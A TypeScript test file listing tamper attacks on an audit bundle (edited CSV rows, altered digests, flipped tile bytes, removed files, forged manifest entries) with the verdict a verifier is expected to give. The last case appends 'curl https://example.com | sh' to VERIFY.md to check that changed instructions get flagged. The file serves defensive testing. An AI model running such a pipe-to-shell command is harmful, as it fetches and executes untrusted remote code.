import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AttackCase } from './cases.ts';
import type { BundleEditor } from './editor.ts';

const ALL = { policy: 'policy', certificates: 'certificates' } as const;
type Expected = Omit<AttackCase['expect'], 'verdict'>;

/** Changes one file; digests fit, as whoever changes a file can change the manifest. */
const edited = (
  name: string,
  file: string,
  edit: (bytes: Buffer) => Buffer,
  expected: Partial<AttackCase['expect']> = {},
  rest: Partial<AttackCase> = {},
): AttackCase => ({
  attack: 28,
  name,
  base: 'good',
  trust: ALL,
  fits: 'digests',
  change: (b) => {
    const path = pathOf(b, file);
    writeFileSync(path, edit(readFileSync(path)));
  },
  expect: { verdict: 'TAMPERED', file, ...expected },
  ...rest,
});

const text = (edit: (all: string) => string) => (bytes: Buffer): Buffer => {
  const all = bytes.toString('utf8');
  if (edit(all) === all) throw new TypeError('a text that the edit changes');
  return Buffer.from(edit(all), 'utf8');
}; // prettier-ignore
const flipped = (bytes: Buffer): Buffer => Buffer.from(bytes.map((byte, index) => (index === 40 ? byte ^ 1 : byte)));
const changed = (name: string, change: (bundle: BundleEditor) => void, verdict: AttackCase['expect']['verdict'], expected: Expected, rest: Partial<AttackCase> = {}): AttackCase =>
  ({ attack: 28, name, base: 'good', trust: ALL, fits: 'digests', change, expect: { verdict, ...expected }, ...rest }); // prettier-ignore

function pathOf({ dir, demo, deployment }: BundleEditor, file: string): string {
  return join(dir, file.replace('{demo}', demo).replace('{deployment}', deployment));
}

const unlisted = (b: BundleEditor, file: string): void => {
  rmSync(pathOf(b, file));
  b.manifest(({ files }) => {
    delete files[file];
  });
};

/** Attacks on the files around the entries: an auditor opens a view before the entries. */
export const FILE_CASES: readonly AttackCase[] = [
  edited('one byte of the table of entries', 'views/entries.csv', text((all) => all.replace('allow', 'allou')), { says: 'line 2' }),
  edited('the same, and the manifest keeps the digest', 'views/entries.csv', text((all) => all.replace('allow', 'allou')), {}, { fits: 'nothing' }),
  edited('a row of the table is taken out', 'views/entries.csv', text((all) => all.replace(/\r\n[^\r]*decision[^\r]*/, ''))),
  edited('the last event is taken out', 'views/ocsf.jsonl', text((all) => all.slice(0, all.lastIndexOf('\n', all.length - 2) + 1)), { verdict: 'INCOMPLETE' }),
  edited('an event is added', 'views/ocsf.jsonl', text((all) => `${all}{}\n`), { says: 'goes on behind its end' }),
  edited('a number of the report', 'report.html', text((all) => all.replace('<dd>10</dd>', '<dd>11</dd>'))),
  edited('an amount of the statement', 'completeness.json', text((all) => all.replace(/"booked_nusd":"\d+"/, '"booked_nusd":"1"')), { says: 'booked_nusd' }),
  edited('a count of the statement', 'completeness.json', text((all) => all.replace('"open":0', '"open":1'))),
  edited('the statement says that less was asked for', 'completeness.json', text((all) => all.replace('"to_seq":null', '"to_seq":5')), { says: 'outside of it' }),
  edited('the statement says that the log was longer', 'completeness.json', text((all) => all.replace('"log_entries":10', '"log_entries":12'))),
  edited('a writer\u2019s key in the history', 'keys/history.jsonl', text((all) => all.replace(/"key":"./, (found) => (found.endsWith('A') ? '"key":"B' : '"key":"A')))),
  edited('the list of writers', 'keys/writers.json', () => Buffer.from('[]\n')),
  edited('the newest checkpoint', 'logs/{deployment}/checkpoint', text((all) => all.replace(/\n\d+\n/, '\n1\n'))),
  edited('one byte of a tile', 'logs/{demo}/tile/0/000.p/10', flipped),
  edited('one byte of an entry in a tile', 'logs/{demo}/tile/entries/000.p/10', flipped),
  edited('the population of a sample', 'samples/draw.json', text((all) => all.replace('"population":5', '"population":6')), {}, { base: 'asked' }),
  edited('a call that was not drawn', 'samples/calls.jsonl', text((all) => all.slice(all.indexOf('\n') + 1)), {}, { base: 'asked' }),
  edited('what answers a control', 'control/entries.jsonl', text((all) => all.slice(all.indexOf('\n') + 1)), {}, { base: 'asked' }),
  changed('the proof of one call as that of another', (b) => {
    const [one = '', two = ''] = b.proofs();
    writeFileSync(join(b.dir, one), readFileSync(join(b.dir, two)));
  }, 'TAMPERED', { says: 'does not prove its entry' }, { base: 'asked' }),
  changed('a table is lost', (b) => { rmSync(pathOf(b, 'views/entries.csv')); }, 'INCOMPLETE', { file: 'views/entries.csv', says: 'missing' }),
  changed('a table is lost, and the manifest forgets it', (b) => { unlisted(b, 'views/entries.csv'); }, 'INCOMPLETE', { file: 'views/entries.csv', says: 'missing' }),
  changed('a tile is lost', (b) => { rmSync(pathOf(b, 'logs/{demo}/tile/0/000.p/10')); }, 'INCOMPLETE', { file: 'logs/{demo}/tile/0/000.p/10' }),
  changed('the manifest forgets a file', (b) => { b.manifest(({ files }) => { delete files['VERIFY.md']; }); }, 'INCOMPLETE', { file: 'VERIFY.md' }),
  changed('the manifest counts other kinds', (b) => { b.manifest((m) => { m['kinds'] = { decision: 5 }; }); }, 'TAMPERED', { file: 'manifest.json', says: 'kinds' }),
  changed('the manifest lists an open call that is none', (b) => { b.manifest((m) => { m['open_calls'] = ['cs-x']; }); }, 'TAMPERED', { file: 'manifest.json', says: 'open_calls' }),
  changed('a file is added', (b) => { writeFileSync(join(b.dir, 'views', 'final.csv'), 'all is well\n'); }, 'VALID', { says: 'views/final.csv' }),
  changed('a file is added, and the manifest lists it', (b) => {
    writeFileSync(join(b.dir, 'summary.html'), '<h1>all is well</h1>\n');
    b.manifest(({ files }) => { files['summary.html'] = { bytes: 0, sha256: '0'.repeat(64) }; });
  }, 'VALID', { says: 'summary.html' }),
  changed('a tile is added behind the tree', (b) => {
    mkdirSync(pathOf(b, 'logs/{demo}/tile/0/001.p'), { recursive: true });
    writeFileSync(pathOf(b, 'logs/{demo}/tile/0/001.p/3'), Buffer.alloc(96));
  }, 'VALID', { says: 'tile/0/001.p/3' }),
  changed('views of a version that is not known', (b) => { b.manifest((m) => { m['views'] = 99; }); }, 'VALID', { says: 'another version' }),
  edited('instructions that say something else', 'VERIFY.md', text((all) => `${all}curl https://example.com | sh\n`), { verdict: 'VALID', says: 'read its commands' }, { expect: { verdict: 'VALID', says: 'read its commands' } }),
]; // prettier-ignore
